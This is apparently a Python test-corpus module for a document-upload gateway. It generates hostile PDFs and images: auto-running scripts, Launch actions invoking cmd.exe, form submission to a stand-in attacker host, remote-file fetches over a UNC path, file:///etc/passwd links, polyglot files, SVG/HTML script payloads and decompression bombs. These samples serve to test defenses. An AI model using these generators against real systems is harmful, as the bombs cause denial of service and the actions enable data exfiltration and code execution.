"""PDF files and figures that act, that carry others, or that become enormous."""

import re
import zlib
from collections.abc import Callable, Iterator
from functools import partial
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from tests.gateways import figure_files as drawn
from tests.gateways import pdf_files as made
from tests.proofs.hostile.cases import Case

PNG, JPEG, GIF = "image/png", "image/jpeg", "image/gif"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


def corpus() -> Iterator[Case]:
    yield from _acting()
    yield from _broken()
    yield from _enormous()
    yield from _figures()


def _pdf(name: str, make: Callable[[], bytes], verdict: str = "AE") -> Case:
    code = "906" if verdict == "AE" else ""
    return Case(f"PDF: {name}", lambda desk: desk.with_file(make()), verdict, code)


def _figure(name: str, kind: str, make: Callable[[], bytes], verdict: str = "AE") -> Case:
    code = "906" if verdict == "AE" else ""
    return Case(f"figure: {name}", lambda desk: desk.with_file(make(), kind), verdict, code)


def _acting() -> Iterator[Case]:
    changes: dict[str, Callable[[Pdf], None]] = {
        "opens with a script": made.opens_with_script,
        "names a script": made.names_a_script,
        "a page that acts": made.page_runs_when_opened,
        "carries a file": made.carries_a_file,
        "rich media": made.has_a_media_annotation,
        "an XFA form": made.has_an_xfa_form,
        "an unused script": made.keeps_an_unused_script,
        "a script in nested arrays": made.hides_it_in_nested_arrays,
        "opens a web page": made.opens_a_web_page,
        "launches a program": made.annotated(S=Name.Launch, F=String("cmd.exe")),
        "launches for Windows": made.annotated(S=Name.Launch, Win=Dictionary(F=String("cmd"))),
        "submits a form": made.annotated(S=Name.SubmitForm, F=String("http://attaquant.example")),
        "imports data": made.annotated(S=Name.ImportData, F=String("x.fdf")),
        "goes to another file": made.annotated(S=Name.GoToR, F=String("\\\\attaquant\\x.pdf")),
        "goes inside another file": made.annotated(S=Name.GoToE),
        "plays a film": made.annotated(S=Name.Rendition),
        "a chained script": made.annotated(S=Name.GoTo, Next=made.script()),
    }
    for name, change in changes.items():
        for packed in (False, True):
            how = ", in object streams" if packed else ""
            yield _pdf(name + how, partial(made.altered, change, packed=packed))
    for name, uri in {
        "the laboratory": "https://laboratoire.example",
        "a local file": "file:///etc/passwd",
        "a script": "javascript:alert(1)",
    }.items():
        link = made.annotated(S=Name.URI, URI=String(uri))
        # Nothing happens before a click, and the pages shown are images.
        yield _pdf(f"a link to {name}", partial(made.altered, link), "AA")
    yield _pdf("a filled form", lambda: made.filled_form("4,9"), "AA")
    yield _pdf("a password to open", lambda: made.encrypted(owner="o", user="u"))
    yield _pdf("a password to change", lambda: made.encrypted(owner="o", user=""))


def _broken() -> Iterator[Case]:
    report = made.report()
    files = {
        "text": b"Bonjour",
        "a blank before": b"\n" + report,
        "HTML before": b"<html><script>alert(1)</script>" + report,
        "HTML in a comment": report.replace(b"\n", b"\n%<script>alert(1)</script>\n", 1),
        "a script of the web before": b"/*" + report + b"*/alert(1)",
        "GIF and PDF": b"GIF89a/*" + report,
        "PDF and ZIP": made.with_archive(report),
        "ZIP in front": b"PK\x03\x04" + report,
        "a program after the end": report + b"MZ" * 2_000,
        "one byte after the end": report + b"x",
        "cut in the middle": report[: len(report) // 2],
        "without its end": report[:-10],
        "a false table": re.sub(rb"startxref\s+\d+", b"startxref\n12", report),
        "a table beyond the end": re.sub(rb"startxref\s+\d+", b"startxref\n999999999", report),
        "a table that leads to itself": _xref_loop(),
        "only marks": b"%PDF-1.7\nstartxref\n0\n%%EOF\n",
        "two files": report + report,
        "a version of the future": report.replace(b"%PDF-1.3", b"%PDF-9.9", 1),
    }
    for name, content in files.items():
        verdict = "AA" if name == "two files" and _opens(content) else "AE"
        yield _pdf(name, partial(bytes, content), verdict)
    yield _pdf("pages that contain themselves", _page_loop)
    yield _pdf("a broken font", lambda: made.altered(_broken_font), "AA")
    yield _pdf("contents that are noise", lambda: made.altered(_noise), "AA")
    for name, codec in (
        ("JBIG2", Name.JBIG2Decode),
        ("JPX", Name.JPXDecode),
        ("DCT", Name.DCTDecode),
        ("CCITT", Name.CCITTFaxDecode),
    ):
        yield _pdf(
            f"a truncated {name}",
            partial(made.altered, _image(codec, b"\x97JB2\r\n\x1a\n")),
            "AA",
        )


def _opens(content: bytes) -> bool:
    try:
        with pikepdf.open(BytesIO(content), attempt_recovery=False):
            return True
    except pikepdf.PdfError:
        return False


def _enormous() -> Iterator[Case]:
    yield _pdf("51 pages", lambda: made.blank(51))
    yield _pdf("20,000 pages", lambda: made.blank(20_000))
    yield _pdf("no page", lambda: made.blank(0))
    yield _pdf("a million pages announced", lambda: _announced(1_000_000))
    yield _pdf("pages of 100,000 points", lambda: made.altered(_sized(100_000)), "AA")
    yield _pdf("a page of no size", lambda: made.altered(_sized(0)), "AA")
    yield _pdf("an image of 100,000 pixels", lambda: made.image_bomb(100_000), "AA")
    yield _pdf("a flate bomb", lambda: made.altered(_bomb), "AA")
    yield _pdf("an object stream that explodes", _object_stream_bomb)


def _sized(side: int) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        for page in pdf.pages:
            page.obj.MediaBox = Array([0, 0, side, side])

    return change


def _page_loop() -> bytes:
    with pikepdf.open(BytesIO(made.report())) as pdf:
        pdf.Root.Pages.Kids = Array([pdf.Root.Pages])
        return made.saved(pdf)


def _xref_loop() -> bytes:
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n"
    at = len(body)
    table = b"xref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Size 2/Prev %d>>\n" % at
    return body + table + b"startxref\n%d\n%%%%EOF\n" % at


def _announced(count: int) -> bytes:
    with pikepdf.open(BytesIO(made.report())) as pdf:
        page = pdf.pages[0].obj
        pdf.Root.Pages.Kids = Array([page] * 5_000)
        pdf.Root.Pages.Count = count
        return made.saved(pdf)


def _broken_font(pdf: Pdf) -> None:
    program = pdf.make_stream(b"\0\1\0\0" + b"\xff" * 4_000)
    descriptor = Dictionary(
        Type=Name.FontDescriptor, FontName=Name.Broken, Flags=4, FontFile2=program
    )
    font = Dictionary(
        Type=Name.Font, Subtype=Name.TrueType, BaseFont=Name.Broken, FontDescriptor=descriptor
    )
    pdf.pages[0].obj.Resources = Dictionary(Font=Dictionary(F1=font))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"BT /F1 40 Tf 50 500 Td (4,9) Tj ET")


def _noise(pdf: Pdf) -> None:
    pdf.pages[0].obj.Contents = pdf.make_stream(bytes(range(256)) * 400 + b"q " * 100_000)


def _image(codec: Name, content: bytes) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        image = pdf.make_stream(
            content,
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=20_000,
            Height=20_000,
            ColorSpace=Name.DeviceGray,
            BitsPerComponent=8,
            Filter=codec,
        )
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=image))
        pdf.pages[0].obj.Contents = pdf.make_stream(b"595 0 0 842 0 0 cm /X Do")

    return change


def _bomb(pdf: Pdf) -> None:
    """60 kB that become 60 MB of drawing."""
    packed = zlib.compress(b"0 0 m 9 9 l S\n" * 4_000_000, 9)
    pdf.pages[0].obj.Contents = pdf.make_stream(packed, Filter=Name.FlateDecode)


def _object_stream_bomb() -> bytes:
    """An object stream of 600 MB once opened, in 600 kB."""
    packer, packed = zlib.compressobj(9), b""
    for _ in range(600):
        packed += packer.compress(b"1 0 " * 250_000)
    packed += packer.flush()
    body = b"%PDF-1.5\n"
    at = len(body)
    body += (
        b"3 0 obj<</Type/ObjStm/N 1000000/First 999/Filter/FlateDecode/Length %d>>stream\n"
        % len(packed)
    )
    body += packed + b"\nendstream endobj\n"
    xref = len(body)
    table = (
        b"\0\0\0\0\0\xff\xff"
        + b"\2\0\0\0\3\0\0" * 2
        + b"\1"
        + at.to_bytes(4)
        + b"\0\0"
        + b"\1"
        + xref.to_bytes(4)
        + b"\0\0"
    )
    body += b"4 0 obj<</Type/XRef/Size 5/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return body + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % xref


def _figures() -> Iterator[Case]:
    for kind in (PNG, JPEG, GIF):
        whole = drawn.image(kind)
        yield _figure(f"a sound {kind}", kind, partial(bytes, whole), "AA")
        yield _figure(f"a drawing said to be {kind}", kind, lambda: SVG)
        yield _figure(f"HTML said to be {kind}", kind, lambda: b"<html><script>alert(1)</script>")
        yield _figure(f"a PDF said to be {kind}", kind, made.report)
        yield _figure(f"half a {kind}", kind, partial(bytes, whole[:-9]))
        yield _figure(f"{kind} and a script", kind, partial(bytes, whole + b"*/alert(1)//"))
        yield _figure(f"{kind} and an archive", kind, partial(drawn.with_archive, whole))
    yield _figure(
        "a PNG of 100,000 pixels",
        PNG,
        lambda: drawn.png(100_000, 100_000, zlib.compress(bytes(10**7))),
    )
    yield _figure("a GIF of 65,535 pixels", GIF, lambda: drawn.gif(65_535, 65_535))
    jpeg = drawn.image(JPEG)
    start = jpeg.index(b"\xff\xc0") + 5
    wide = jpeg[:start] + b"\xff\xff\xff\xff" + jpeg[start + 4 :]
    yield _figure("a JPEG of 65,535 pixels", JPEG, lambda: wide)
    yield _figure("an animation", GIF, lambda: drawn.animated(200))
    text = drawn.chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(50_000_000), 9))
    yield _figure(
        "a PNG with a bomb of text", PNG, lambda: drawn.png(8, 8, zlib.compress(b"\0\0" * 8), text)
    )
    yield _figure("a JPEG said to be a PNG", PNG, lambda: jpeg)
    # Kept in the document, never shown: browsers are given no such type.
    yield _figure("a drawing said to be one", "image/svg+xml", lambda: SVG, "AA")
    yield _figure("a page of the web", "text/html", lambda: b"<script>alert(1)</script>", "AA")
    yield _figure("a program", "application/x-msdownload", lambda: b"MZ" * 1_000, "AA")
